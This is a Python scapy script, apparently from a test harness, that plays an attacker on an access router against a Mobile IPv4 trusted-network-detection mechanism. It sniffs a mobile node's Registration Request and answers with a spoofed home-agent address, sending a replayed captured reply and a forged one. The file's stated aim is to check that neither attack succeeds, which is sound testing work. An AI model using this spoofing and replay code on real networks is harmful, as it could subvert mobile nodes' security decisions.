#!/usr/bin/python3
"""An attacker on an access network's router (run in its namespace): waits for the mobile
node's probe — a Registration Request to the home agent's port 434, in the clear (RFC 5266
3.4) — and answers each one, spoofing the home agent's address, with
  1. a Registration Reply captured earlier on a trusted network (a replay: an old
     Identification, a valid authenticator for that old message), and
  2. a forged reply: code 0, the probe's own Identification copied (so it looks fresh), the
     Trusted Networks Configured extension (RFC 5265 3.4), and a Mobile-Home Authentication
     extension with the probe's SPI and 16 random bytes (the attacker has no key).
Neither may make the mobile node trusted (RFC 5265 4.1, RFC 5944 3.6.2.1).

    attacker.py --iface lan --ha 198.18.1.2 --replay FILE --log FILE --seconds 10
Log: one JSON line per probe seen and per reply sent.
"""

from __future__ import annotations

import argparse
import json
import os
import struct
import time

from scapy.all import IP, UDP, Raw, conf, send, sniff  # noqa: E402

conf.verb = 0


def forged_reply(req: bytes) -> bytes:
    # RFC 5944 3.4: type 3, code, lifetime, home address, home agent, identification
    typ, flags, lifetime = req[0], req[1], struct.unpack("!H", req[2:4])[0]
    hoa, ha, _coa, ident = req[4:8], req[8:12], req[12:16], req[16:24]
    # the probe's MN-HA SPI (RFC 5944 3.5.2: type 32, length, SPI, authenticator)
    spi = 256
    i = 24
    while i + 2 <= len(req):
        t, ln = req[i], req[i + 1]
        if t == 32 and ln >= 4:
            spi = struct.unpack("!I", req[i + 2:i + 6])[0]
        i += 2 + ln
    body = bytes([3, 0]) + struct.pack("!H", lifetime or 300) + hoa + ha + ident
    tnc = bytes([149, 2, 0, 0])
    auth = bytes([32, 4 + 16]) + struct.pack("!I", spi) + os.urandom(16)
    del typ, flags
    return body + tnc + auth


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--ha", required=True)
    ap.add_argument("--replay", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--seconds", type=float, default=10.0)
    a = ap.parse_args()
    replay = open(a.replay, "rb").read()
    log = open(a.log, "w", buffering=1)
    log.write(json.dumps({"ready": True}) + "\n")

    def on(pkt):
        if not pkt.haslayer(UDP) or pkt[IP].dst != a.ha or pkt[UDP].dport != 434:
            return
        req = bytes(pkt[UDP].payload)
        if len(req) < 24 or req[0] != 1:
            return
        coa, sport = pkt[IP].src, pkt[UDP].sport
        log.write(json.dumps({"probe": coa, "sport": sport,
                              "ident": req[16:24].hex()}) + "\n")
        for kind, payload in (("replay", replay), ("forged", forged_reply(req))):
            send(IP(src=a.ha, dst=coa) / UDP(sport=434, dport=sport) / Raw(payload),
                 iface=a.iface)
            log.write(json.dumps({"sent": kind, "to": f"{coa}:{sport}",
                                  "len": len(payload)}) + "\n")

    sniff(iface=a.iface, filter="udp dst port 434", prn=on, timeout=a.seconds, store=False)
    log.write(json.dumps({"done": True}) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
